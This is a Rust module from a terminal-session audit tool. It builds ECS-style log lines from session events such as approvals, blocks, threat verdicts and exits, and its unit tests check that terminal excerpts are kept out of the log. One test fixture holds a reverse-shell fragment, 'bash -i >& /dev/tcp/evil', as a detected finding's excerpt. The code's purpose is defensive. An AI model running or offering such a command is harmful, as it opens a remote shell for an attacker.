//! Lines of the audit log.

use audit_core::{Answer, End, Exit, News, Notice, Outcome, SessionSpec, Verdict};
use serde_json::{Map, Value, json};

use super::Level;
use crate::text;

/// The version of ECS the field names come from.
const ECS_VERSION: &str = "8.11.0";

/// The line for `notice`; `None` when it is not worth one.
pub(super) fn of_notice(
    spec: &SessionSpec,
    notice: &Notice,
) -> Option<(Level, Map<String, Value>)> {
    let at = spec.opened_unix_millis + notice.at.as_nanos() / 1_000_000;
    let mut event = Event::new(at);
    event.session(spec);
    let level = match &notice.news {
        News::Opened { pid } => {
            event.set("process.pid", *pid);
            event.action("session-opened", "event", "unknown", "session opened".to_owned());
            Level::Info
        }
        News::State(state) => {
            event.set("auditty.state", json!(state));
            event.action("session-state", "event", "unknown", "session state changed".to_owned());
            Level::Debug
        }
        News::Blocked { block, approval } => {
            event.set("auditty.block.id", block.0);
            event.set("auditty.block.asked_by", approval.asked_by.name.clone());
            let message = format!("session blocked: {}", text::sanitised(&approval.subject));
            event.action("session-blocked", "alert", "success", message);
            Level::Warning
        }
        News::Decided { block, decision } => {
            event.set("auditty.block.id", block.0);
            event.set("auditty.decision.by", decision.by.name.clone());
            event.set("auditty.decision.own", decision.own);
            if !decision.comment.is_empty() {
                event.set("auditty.decision.comment", text::sanitised(&decision.comment));
            }
            let (action, outcome) = match decision.answer {
                Answer::Approve => ("block-approved", "success"),
                Answer::Reject => ("block-rejected", "failure"),
                Answer::ExpireTerminate => ("block-expired", "failure"),
                Answer::ExpireResume => ("block-expired", "success"),
            };
            event.action(action, "event", outcome, format!("block {block} decided"));
            Level::Warning
        }
        News::Verdict(verdict) => {
            event.verdict(verdict);
            event.action("threat-found", "alert", "unknown", "below the threshold".to_owned());
            Level::Info
        }
        News::Alarm { name, text } => {
            event.set("auditty.alarm", name.clone());
            event.action("alarm", "alert", "failure", text::sanitised(text));
            Level::Error
        }
        News::Finished(outcome) => event.outcome(outcome),
        // Sizes and answers say nothing that the journal does not.
        _ => return None,
    };
    Some(event.finish(level))
}

/// The line for a recording that failed verification.
pub(super) fn failed_verification(session: &str, status: &str, reason: &str) -> Map<String, Value> {
    let mut event = Event::new(text::now_unix_millis());
    event.set("auditty.session.id", session);
    event.set("auditty.verify.status", status);
    let message = format!("verification failed: {}", text::sanitised(reason));
    event.action("verification-failed", "alert", "failure", message);
    event.finish(Level::Critical).1
}

/// A line being written.
struct Event(Map<String, Value>);

impl Event {
    fn new(unix_millis: u64) -> Self {
        let mut event = Self(Map::new());
        event.set("@timestamp", text::rfc3339(unix_millis));
        event.set("ecs.version", ECS_VERSION);
        event.set("event.module", "auditty");
        event
    }

    fn set(&mut self, name: &str, value: impl Into<Value>) {
        self.0.insert(name.to_owned(), value.into());
    }

    fn action(&mut self, action: &str, kind: &str, outcome: &str, message: String) {
        self.set("event.action", action);
        self.set("event.kind", kind);
        self.set("event.outcome", outcome);
        self.set("message", message);
    }

    fn session(&mut self, spec: &SessionSpec) {
        self.set("auditty.session.id", spec.id.to_string());
        self.set("auditty.engine", spec.engine.clone());
        self.set("host.hostname", spec.host.clone());
        self.set("user.name", spec.user.name.clone());
        if let Some(uid) = spec.user.uid {
            // ECS says that ids are keywords.
            self.set("user.id", uid.to_string());
        }
        let words = std::iter::once(&spec.command.program).chain(&spec.command.args);
        let words: Vec<_> = words.map(|w| text::sanitised(&w.to_string_lossy())).collect();
        self.set("process.command_line", words.join(" "));
    }

    fn verdict(&mut self, verdict: &Verdict) {
        self.set("auditty.score", f64::from(verdict.score.value()));
        // Excerpts are terminal data and stay in the journal.
        let rules: Vec<_> = verdict.findings.iter().map(|f| f.rule.clone()).collect();
        let techniques: Vec<_> =
            verdict.findings.iter().flat_map(|f| f.mitre.iter().cloned()).collect();
        self.set("rule.name", rules);
        if !techniques.is_empty() {
            self.set("threat.technique.id", techniques);
        }
    }

    fn outcome(&mut self, outcome: &Outcome) -> Level {
        self.set("auditty.end", outcome.end.name());
        match outcome.exit {
            Some(Exit::Code(code)) => self.set("process.exit_code", code),
            Some(Exit::Signal { number, .. }) => {
                self.set("process.exit_code", 128 + number);
                self.set("auditty.signal", number);
            }
            None => {}
        }
        if let Some(loss) = &outcome.lost {
            self.set("auditty.lost.bytes", loss.bytes);
            self.set("auditty.lost.reason", text::sanitised(&loss.reason));
        }
        let good = matches!(outcome.end, End::Exited | End::HangUp) && outcome.lost.is_none();
        let result = if good { "success" } else { "failure" };
        self.action("session-closed", "event", result, format!("session {}", outcome.end.name()));
        if good { Level::Info } else { Level::Warning }
    }

    fn finish(mut self, level: Level) -> (Level, Map<String, Value>) {
        self.set("log.level", level.name().to_lowercase());
        (level, self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::log::tests::spec;
    use audit_core::{Finding, Moment, Score};

    #[test]
    fn a_line_says_who_where_and_what() {
        let notice =
            Notice { id: 1, at: Moment::from_nanos(1_500_000_000), news: News::Opened { pid: 77 } };
        let (level, line) = of_notice(&spec(), &notice).unwrap();
        assert_eq!(level, Level::Info);
        assert_eq!(line["@timestamp"], "2023-11-14T22:13:21.500Z");
        assert_eq!(line["event.action"], "session-opened");
        assert_eq!(line["user.name"], "ada");
        assert_eq!(line["host.hostname"], "turing");
        assert_eq!(line["process.pid"], 77);
        assert_eq!(line["process.command_line"], "sh -c a\\u{1b}b");
    }

    #[test]
    fn what_the_terminal_held_stays_out_of_the_log() {
        let finding = Finding {
            rule: "shell.reverse".into(),
            title: "reverse shell".into(),
            category: "reverse_shell".into(),
            mitre: vec!["T1059".into()],
            score: Score::new(0.5).unwrap(),
            excerpt: "bash -i >& /dev/tcp/evil".into(),
        };
        let verdict = Verdict { score: finding.score, findings: vec![finding], secrets: vec![] };
        let notice = Notice { id: 2, at: Moment::START, news: News::Verdict(verdict) };
        let (_, line) = of_notice(&spec(), &notice).unwrap();
        assert_eq!(line["rule.name"], json!(["shell.reverse"]));
        assert!(!Value::Object(line).to_string().contains("evil"));
    }

    #[test]
    fn a_rejected_session_is_a_failure() {
        let outcome = Outcome { exit: None, end: End::Rejected, lost: None };
        let notice = Notice { id: 3, at: Moment::START, news: News::Finished(outcome) };
        let (level, line) = of_notice(&spec(), &notice).unwrap();
        assert_eq!(level, Level::Warning);
        assert_eq!(line["event.outcome"], "failure");
        assert_eq!(line["auditty.end"], "rejected");
    }
}
